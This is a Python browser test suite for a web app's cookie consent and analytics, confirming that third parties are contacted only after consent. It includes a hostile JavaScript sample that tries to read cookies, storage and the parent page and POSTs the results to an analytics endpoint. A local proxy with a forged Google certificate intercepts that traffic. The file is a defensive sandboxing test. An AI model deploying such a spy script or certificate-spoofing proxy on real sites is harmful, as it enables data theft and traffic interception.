"""What nobody needs, in a real browser: it asks no third party before a yes, and the tag can reach nothing of ours."""

import json
import queue
import re
import socketserver
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import IO

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from server.logs.visits import counted
from tests.integration.web.chromium import CHROMIUM, DRIVER, Chromium, running_chromium
from tests.integration.web.conftest import House, sign_in_here
from tests.integration.web.organization import PASSWORD

pytestmark = pytest.mark.skipif(
    CHROMIUM is None or DRIVER is None, reason="no browser here: apt-get install chromium chromium-driver"
)
PAGES = ("", "privacy", "cookies", "contact", "display", "sign-in", "enrol", "nothing")
WANTS_BOTH = '\n[pages]\ncount_visits = true\nanalytics_id = "G-ABC1234567"\n'
_BROWSERS_OWN = (".google.com", ".googleapis.com", ".gvt1.com", ".duckduckgo.com", "/time/1/current", "/update2/json")
"""Whom this browser asks whatever it is shown: for the time, updates and what its start page is."""
_SPY = """
(async () => {
  const found = { layer: JSON.stringify(window.dataLayer.map((one) => [...one])) };
  const tries = {
    cookies: () => document.cookie,
    stored: () => localStorage.length,
    around: () => parent.document.title,
    asked: async () => (await fetch("ORIGIN/me", { credentials: "include" })).status,
    framed: async () => (await fetch("ORIGIN/", { credentials: "include" })).status,
  };
  for (const [name, look] of Object.entries(tries)) {
    try { found[name] = await look(); } catch (error) { found[name] = `refused: ${error.name}`; }
  }
  await fetch("https://region1.google-analytics.com/g/collect", { method: "POST", body: JSON.stringify(found) });
})();
"""


@pytest.fixture
def wanting_both(house: House) -> None:
    """The operator wants visits counted and has a property at Google."""
    path = house.filled.settings.data / "settings.toml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.partition("\n[pages]")[0] + WANTS_BOTH, encoding="utf-8")


class Outside:
    """In the place of everybody else: a proxy that notes whom the browser asks for, and answers for Google's hosts with
    a script that attacks `origin` and reports what it `found`."""

    def __init__(self, certificate: Path) -> None:
        self.asked: list[str] = []
        self.found: queue.Queue[dict[str, str]] = queue.Queue()
        self.origin = ""
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._context.load_cert_chain(certificate)
        self._server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), self._handler())
        self._server.daemon_threads = True

    @contextmanager
    def browser(self, profile: Path) -> Iterator[Chromium]:
        """One that reaches all but this machine through the proxy."""
        thread = threading.Thread(target=self._server.serve_forever)
        thread.start()
        proxy = f"--proxy-server=http://127.0.0.1:{self._server.server_address[1]}"
        try:
            with running_chromium(profile, proxy, "--ignore-certificate-errors") as window:
                yield window
        finally:
            self._server.shutdown()
            thread.join()
            self._server.server_close()

    def _handler(self) -> type[socketserver.StreamRequestHandler]:
        outside = self

        class Handler(socketserver.StreamRequestHandler):
            timeout = 20

            def handle(self) -> None:
                _, host, _ = self.rfile.readline().decode().split(" ", 2)
                while self.rfile.readline().strip():
                    pass
                if not host.removesuffix(":443").partition("?")[0].endswith(_BROWSERS_OWN):
                    outside.asked.append(host)
                if not host.endswith((".googletagmanager.com:443", ".google-analytics.com:443")):
                    self.wfile.write(b"HTTP/1.1 502 Nobody\r\nContent-Length: 0\r\n\r\n")
                    return
                self.wfile.write(b"HTTP/1.1 200 Connected\r\n\r\n")
                with outside._context.wrap_socket(self.connection, server_side=True) as line:
                    outside._answer(line.makefile("rwb"))

        return Handler

    def _answer(self, line: IO[bytes]) -> None:
        method = line.readline().partition(b" ")[0]
        headers = dict(one.lower().split(b": ", 1) for one in iter(lambda: line.readline().strip(), b""))
        if method == b"POST":
            self.found.put(json.loads(line.read(int(headers[b"content-length"]))))
        script = _SPY.replace("ORIGIN", self.origin).encode() if method == b"GET" else b""
        head = "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nAccess-Control-Allow-Origin: *\r\nConnection: close"
        line.write(f"{head}\r\nContent-Length: {len(script)}\r\n\r\n".encode() + script)
        line.flush()


@pytest.fixture
def outside(tmp_path: Path) -> Outside:
    """Everybody else."""
    return Outside(_certificate(tmp_path / "google.pem"))


def _certificate(path: Path) -> Path:
    key, now = ec.generate_private_key(ec.SECP256R1()), datetime.now(UTC)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "www.googletagmanager.com")])
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    path.write_bytes(private + made.public_bytes(serialization.Encoding.PEM))
    return path


def test_nobody_else_is_asked_before_a_yes(
    wanting_both: None, house: House, address: str, tmp_path: Path, outside: Outside
) -> None:
    with outside.browser(tmp_path / "profile") as browser:
        for path in PAGES:
            browser.open(f"{address}/{path}")
        browser.open(f"{address}/privacy")
        browser.press("Only what is needed")
        browser.wait_for("body:not(:has(.asking))")
        assert browser.run("return location.pathname") == "/privacy"
        for path in PAGES:
            browser.open(f"{address}/{path}")
        assert {one["name"] for one in browser.command("Network.getAllCookies")["cookies"]} == {
            "miratag-choices",
            "miratag-form",
        }
        sign_in_here(browser, address, house.manager)
        for path in ("today", "reports", "attendance", "cookies"):
            browser.open(f"{address}/{path}")
    assert outside.asked == []
    assert counted(house.filled.database, date.min) == []


def test_the_tag_is_loaded_after_a_yes_and_finds_out_nothing(
    wanting_both: None, house: House, address: str, tmp_path: Path, outside: Outside
) -> None:
    outside.origin = address
    with outside.browser(tmp_path / "profile") as browser:
        browser.open(f"{address}/contact")
        browser.press("Allow")
        browser.wait_for("iframe[src='/analytics?page=contact']")
        spied = outside.found.get(timeout=20)
        layer = json.loads(spied.pop("layer"))
        assert [one[0] for one in layer] == ["js", "config"]
        assert layer[1][1] == "G-ABC1234567"
        assert layer[1][2]["page_location"] == f"{address}/contact"
        assert spied == {
            "cookies": "refused: SecurityError",
            "stored": "refused: SecurityError",
            "around": "refused: SecurityError",
            "asked": "refused: TypeError",
            "framed": "refused: TypeError",
        }
        assert set(outside.asked) == {"www.googletagmanager.com:443", "region1.google-analytics.com:443"}
        outside.asked.clear()
        browser.open(f"{address}/sign-in")
        sign_in_here(browser, address, house.manager)
        for path in ("today", "privacy"):
            browser.open(f"{address}/{path}")
        assert outside.asked == []


def test_a_visit_is_counted_by_the_script_and_without_one_by_the_image(
    wanting_both: None, house: House, address: str, browser: Chromium
) -> None:
    browser.open(f"{address}/cookies")
    browser.click("[name=visits][value=yes]")
    browser.press("Keep this choice")
    browser.wait_for(".notice")
    browser.open(f"{address}/contact")
    done = "performance.getEntriesByName(location.origin + '/beacon.gif').length"
    browser.wait_until(done)
    browser.command("Emulation.setScriptExecutionDisabled", value=True)
    browser.open(f"{address}/enrol")
    browser.command("Emulation.setScriptExecutionDisabled", value=False)
    browser.open("about:blank")
    numbers = {(one.name, *one.fields.values()): one.times for one in counted(house.filled.database, date.min)}
    assert numbers[("page.viewed", "contact", True)] == 1
    assert numbers[("page.viewed", "enrol", False)] == 1
    assert [name for name, *_ in numbers if name == "page.timing"]
    log = (house.filled.settings.data / "logs" / "requests.log").read_text(encoding="utf-8")
    told = {re.sub(r"^\S+ |\d+ms ", "", line) for line in log.splitlines() if "beacon" in line}
    assert told == {"GET /beacon.gif 200 127.0.0.0/24", "POST /beacon.gif 204 127.0.0.0/24"}
    assert browser.complaints() == []


def test_a_browser_that_blocks_cookies_is_told_so_and_reads_on(house: House, address: str, tmp_path: Path) -> None:
    blocked = {"profile__default_content_setting_values__cookies": 2}
    with running_chromium(tmp_path / "profile", **blocked) as browser:
        browser.open(f"{address}/sign-in?return_to=/me/time")
        browser.fill("#email", house.ana.email)
        browser.fill("#password", PASSWORD)
        browser.press("Sign in")
        browser.wait_for("main .secret")
        assert browser.run("return document.querySelector('h1').textContent") == "Cookies are off"
        assert browser.run("return document.body.textContent").count(PASSWORD) == 0
        browser.click("a.button[href='/sign-in?return_to=%2Fme%2Ftime']")
        browser.wait_for("#email")
        for path in ("", "privacy", "cookies", "contact"):
            browser.open(f"{address}/{path}")
            assert browser.run("return document.querySelectorAll('h1').length") == 1
        assert browser.command("Network.getAllCookies")["cookies"] == []


def test_the_question_fits_a_phone_at_twice_the_size_and_is_reached_by_keys(
    wanting_both: None, address: str, browser: Chromium
) -> None:
    for width in (180, 360, 1280):
        browser.width(width)
        browser.open(f"{address}/privacy")
        assert browser.run("return document.documentElement.scrollWidth") <= width
        boxes = browser.run(
            "return [...document.querySelectorAll('.asking button')].map((one) => {"
            "const box = one.getBoundingClientRect(); return [box.width, box.height]; })"
        )
        assert abs(boxes[0][1] - boxes[1][1]) <= 1, width
        assert abs(boxes[0][0] - boxes[1][0]) <= 2, (width, boxes)
        over = "getComputedStyle(document.querySelector('.asking')).position"
        assert browser.run(f"return {over}") == "static"
    browser.key("\ue004")  # the way past it is the first stop
    assert browser.run("return document.activeElement.className") == "skip"
